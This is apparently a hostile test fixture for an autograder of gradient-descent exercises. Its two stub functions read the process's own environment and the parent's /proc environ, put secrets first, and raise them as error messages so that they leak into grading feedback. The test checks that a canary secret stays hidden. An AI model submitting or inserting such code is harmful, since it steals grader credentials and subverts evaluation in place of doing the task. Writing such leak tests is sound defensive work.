"""Hostile: exfiltrates the grader's environment through an exception message (shown as feedback
for public cases): it raises with every variable of its own environment and of the grader's
(``/proc/$PPID/environ``), secrets first.

Verdict: fail (every call raises). The test's random ``DESCENTLAB_CANARY_SECRET`` must not appear
in the report. Old grader: the worker inherits the environment, so the secret is in the feedback.
"""

import os


def _environment():
    items = [f"{k}={v}" for k, v in os.environ.items()]
    try:
        with open(f"/proc/{os.getppid()}/environ", "rb") as handle:
            items += [i.decode(errors="replace") for i in handle.read().split(b"\0") if i]
    except OSError:
        pass
    return sorted(set(items), key=lambda item: "SECRET" not in item)


def gradient_step_onefeature(x, y, weight, lrate):
    raise RuntimeError("; ".join(_environment()))


def gradient_step(X, y, weight, lrate):
    raise RuntimeError("; ".join(_environment()))
